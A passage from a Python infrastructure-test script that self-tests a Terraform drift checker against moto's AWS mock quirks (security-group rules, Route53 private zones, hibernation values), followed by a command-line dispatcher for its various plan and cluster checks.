    if not drift(quirk_only, record(["127.100.1.99"], False))[0]:
        problems.append("drift check excused a master record changed to another address")
    # Security-group rules: only moto's ACCOUNT/sg-ID form of the same group, and only a
    # description dropped from a rule that references a group.
    for rtype in ("aws_vpc_security_group_ingress_rule", "aws_vpc_security_group_egress_rule"):
        found, tolerated = drift(rule(rtype, {"referenced_security_group_id": "123456789012/sg-0abc", "description": None},
                                      {"referenced_security_group_id": "sg-0abc", "description": "All traffic"}))
        if found or not tolerated:
            problems.append(f"drift check flags moto's self-reference form of {rtype}: {found}")
        for before, after in (
                ({"referenced_security_group_id": "123456789012/sg-0def"}, {"referenced_security_group_id": "sg-0abc"}),
                ({"cidr_ipv4": "10.0.0.0/8", "description": None}, {"cidr_ipv4": "10.0.0.0/8", "description": "SSH"}),
                ({"referenced_security_group_id": "sg-0abc", "description": "old"},
                 {"referenced_security_group_id": "sg-0abc", "description": "new"})):
            if not drift(rule(rtype, before, after))[0]:
                problems.append(f"drift check excused a real {rtype} change: {before} -> {after}")
    # The private zone: only moto's "no VPC listed, the configured one added back" shape.
    def zone(before_vpc, after_vpc, unknown_vpc):
        return {"address": "module.spark.aws_route53_zone.cluster[0]", "module_address": "module.spark",
                "type": "aws_route53_zone",
                "change": {"actions": ["update"], "before": {"name": "z.internal", "vpc": before_vpc},
                           "after": {"name": "z.internal", "vpc": after_vpc},
                           "after_unknown": {"vpc": unknown_vpc}}}
    found, tolerated = drift(zone([], [{"vpc_id": "vpc-0abc"}], [{"vpc_region": True}]))
    if found or not tolerated:
        problems.append(f"drift check flags moto's private-zone quirk: {found}")
    if not drift(zone([{"vpc_id": "vpc-0def", "vpc_region": "us-east-1"}], [{"vpc_id": "vpc-0abc"}],
                      [{"vpc_region": True}]))[0]:
        problems.append("drift check excused a private zone moved to another VPC")
    if not drift(zone([], [{"vpc_id": "vpc-0abc"}, {"vpc_id": "vpc-0def"}], [{"vpc_region": True}, {"vpc_region": True}]))[0]:
        problems.append("drift check excused a second VPC added to the private zone")
    # A zero value the provider stored for an unset attribute is not a change on a replacement.
    zero = master()
    zero["change"]["before"] = {**zero["change"]["before"], "hibernation": False}
    zero["change"]["after"]["hibernation"] = None
    if drift(zero)[0]:
        problems.append("drift check flags hibernation = false (unset) on a replaced master")
    zero["change"]["before"] = {**zero["change"]["before"], "hibernation": True}
    if not drift(zero)[0]:
        problems.append("drift check excused hibernation turned off on a replaced master")
    return problems

def main(argv):
    opts = [a for a in argv if a.startswith("--")]
    args = [a for a in argv if not a.startswith("--")]

    def opt(name, default):
        for o in opts:
            if o == f"--{name}":
                return True
            if o.startswith(f"--{name}="):
                return int(o.split("=", 1)[1])
        return default

    if len(args) >= 2 and args[0] == "plan":
        problems, summary = check_plan(args[1])
    elif len(args) >= 2 and args[0] == "drift":
        problems, summary = check_drift(args[1])
    elif len(args) >= 4 and args[0] == "gone":
        problems, summary = check_gone(args[1], args[2], args[3])
    elif len(args) >= 5 and args[0] == "moto":
        problems, summary = check_moto(args[1], args[2], args[3], int(args[4]),
                                       public_master=opt("public-master", False),
                                       on_demand_base=opt("on-demand-base", 0),
                                       worker_groups=opt("worker-groups", 1),
                                       master_groups=opt("master-groups", 1))
    elif len(args) >= 6 and args[0] == "watch":
        problems, summary = check_watch(args[1], args[2], args[3], args[4], args[5],
                                        opt("launch-timeout", 600), opt("terminate-timeout", 180))
    elif len(args) >= 4 and args[0] == "events":
        problems, summary = check_events(args[1], args[2], args[3])
    elif len(args) >= 2 and args[0] == "toggles":
        problems, summary = check_toggles(args[1])
    elif len(args) >= 3 and args[0] == "upgrade-state":
        problems, summary = check_upgrade_state(args[1], args[2])
    elif len(args) >= 2 and args[0] == "upgrade":
        problems, summary = check_upgrade(args[1])
    elif len(args) >= 1 and args[0] == "selftest":
        problems, summary = check_selftest()
    else:
        print(__doc__, file=sys.stderr)
        return 2
    for p in problems:
        print(f"  problem: {p}")
    print(f"  {summary}: {'OK' if not problems else f'{len(problems)} problem(s)'}")
    return 1 if problems else 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
